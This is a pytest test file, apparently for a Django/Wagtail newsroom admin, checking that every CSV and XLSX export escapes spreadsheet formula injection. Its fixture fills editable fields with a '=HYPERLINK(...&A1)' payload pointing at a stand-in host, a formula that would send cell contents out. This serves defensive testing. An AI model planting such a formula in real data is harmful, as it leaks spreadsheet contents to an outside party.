"""No spreadsheet of the admin runs what somebody typed: ours and Wagtail's, every address that gives one out."""

import csv
import io
from collections.abc import Iterator
from types import SimpleNamespace
from typing import Any

import pytest
from desk_addresses import addresses
from desk_sample import make_desk_sample
from django.contrib.auth.models import Group, User
from django.http import HttpResponse
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook
from roles import signed_in
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import Page, PageLogEntry, Site, Workflow

from news.models import ArticlePage, Contributor, HomePage, MissedSearch, Notice, Photo, WatchFinding
from stats.corrections import correct
from stats.desk.exports.safety import STARTS_A_FORMULA, inert

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://la.example/?x="&A1,"xem")'
CSV, XLSX = "text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.mark.parametrize(
    "start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "\u3000=", "\u00a0＝"]
)
def test_no_way_of_starting_a_formula_is_left(start: str) -> None:
    assert inert(f"{start}1+1").startswith("'")


@pytest.mark.parametrize("text", ["Hội nghị", "163/QĐ-UBND", "a=b", "'=1", "", "5 - 3"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert inert(text) == text


@pytest.fixture
def poisoned(home: HomePage) -> SimpleNamespace:
    """The sample, in which all that somebody may name is named by a formula."""
    it = make_desk_sample(Site.objects.get(is_default_site=True))
    correct(5, reason=FORMULA, now_ms=1_700_000_000_000, made_by=it.user)
    Page.objects.filter(depth__gt=1).update(title=FORMULA, draft_title=FORMULA)
    ArticlePage.objects.update(source=FORMULA)
    User.objects.update(first_name=FORMULA[:150], last_name="+1")
    User.objects.filter(pk=it.other.pk).update(username=FORMULA)
    Group.objects.update(name=FORMULA)
    Workflow.objects.update(name=FORMULA)
    Photo.everything.update(title=FORMULA, caption=FORMULA, description="")
    Notice.everything.update(title=FORMULA)
    Contributor.everything.update(name=FORMULA, pen_name=FORMULA, unit=FORMULA)
    WatchFinding.objects.update(place=FORMULA, what=FORMULA, by=FORMULA)
    Site.objects.update(site_name=FORMULA)
    Redirect.objects.create(old_path=FORMULA, redirect_link="https://example.vn/", site=it.site)
    MissedSearch.objects.create(folded="x", typed=FORMULA, first_on=timezone.localdate(), last_on=timezone.localdate())
    PageLogEntry.objects.log_action(ArticlePage.objects.first(), "wagtail.publish", user=it.other, title=FORMULA)
    return it


def spreadsheets(client: Client, sample: SimpleNamespace) -> Iterator[tuple[str, HttpResponse]]:
    for _, address in list(addresses(sample)):
        yield from ((address, answer) for answer in [client.get(address)] if _is_one(answer))
        for kind in ("csv", "xlsx"):
            asked = f"{address}{'&' if '?' in address else '?'}export={kind}"
            yield from ((asked, answer) for answer in [client.get(asked)] if _is_one(answer))
    traffic = "/quan-tri/thong-ke-truy-cap/"
    for address in (
        "xuat/bao-cao.xlsx",
        "xuat/bai-viet.csv",
        "xuat/bai-viet.xlsx",
        "dieu-chinh/xuat.csv",
        "dieu-chinh/xuat.xlsx",
    ):
        yield address, client.get(traffic + address)


def _is_one(answer: Any) -> bool:
    return answer.status_code == 200 and answer.headers.get("Content-Type", "").startswith((CSV, XLSX))


def _content(answer: Any) -> bytes:
    return b"".join(answer.streaming_content) if answer.streaming else answer.content


def runs(answer: HttpResponse) -> list[str]:
    """Cells that a spreadsheet program would run; and whether it holds the poison at all."""
    content = _content(answer)
    if answer.headers["Content-Type"].startswith(CSV):
        rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
        return [cell for row in rows for cell in row if _starts(cell)]
    book = load_workbook(io.BytesIO(content))
    cells = (cell for sheet in book for row in sheet.iter_rows() for cell in row)
    return [
        str(cell.value)
        for cell in cells
        if cell.data_type == "f" or (isinstance(cell.value, str) and _starts(cell.value) and not cell.quotePrefix)
    ]


def _starts(text: str) -> bool:
    number = text.replace("-", "", 1).replace(".", "").replace("%", "").isdigit()
    return not number and text.lstrip().startswith(STARTS_A_FORMULA)


@pytest.mark.walk
def test_every_spreadsheet_of_the_admin_is_inert(poisoned: SimpleNamespace) -> None:
    seen, poison = {}, 0
    for address, answer in spreadsheets(signed_in(poisoned.user), poisoned):
        seen[address] = runs(answer)
        poison += 1
    assert {address: cells for address, cells in seen.items() if cells} == {}
    for wanted in (
        "users/",
        "redirects/",
        "reports/site-history/",
        "reports/nhat-ky/",
        "reports/noi-dung-la/",
        "reports/locked/",
        "reports/aging-pages/",
        "reports/workflow/",
        "reports/workflow_tasks/",
        "reports/nhuan-but/",
        "reports/anh-chua-co-mo-ta/",
        "reports/tim-khong-thay/",
        "reports/lien-ket-hong/",
    ):
        assert any(wanted in address for address in seen), wanted
    assert poison >= 25


@pytest.mark.parametrize("address", ["reports/site-history/", "redirects/", "reports/nhat-ky/", "reports/noi-dung-la/"])
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_wagtails_and_our_reports_are_inert_and_hold_what_was_typed(
    poisoned: SimpleNamespace, address: str, kind: str
) -> None:
    answer = signed_in(poisoned.user).get(f"/quan-tri/{address}?export={kind}")
    if not _is_one(answer):
        assert (address, kind) == ("reports/noi-dung-la/", "csv")
        return
    content = _content(answer)
    if kind == "csv":
        text = content.decode("utf-8-sig")
        assert "'=HYPERLINK" in text
        assert content.startswith(b"\xef\xbb\xbf")
    else:
        book = load_workbook(io.BytesIO(content))
        texts = [cell for sheet in book for row in sheet.iter_rows() for cell in row if str(cell.value).startswith("=")]
        assert texts
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in texts)


def test_a_spreadsheet_tells_the_time_of_here(poisoned: SimpleNamespace) -> None:
    client = signed_in(poisoned.user)
    at = timezone.localtime(PageLogEntry.objects.latest("timestamp").timestamp)
    text = b"".join(client.get("/quan-tri/reports/site-history/?export=csv").streaming_content).decode()
    assert f"{at:%Y-%m-%d %H:%M}" in text


def test_signs_that_no_workbook_holds_break_no_export(poisoned: SimpleNamespace) -> None:
    Redirect.objects.filter(pk=Redirect.objects.latest("pk").pk).update(old_path="/a\x01b\ufffe")
    client = signed_in(poisoned.user)
    for kind in ("csv", "xlsx"):
        assert client.get(f"/quan-tri/redirects/?export={kind}").status_code == 200
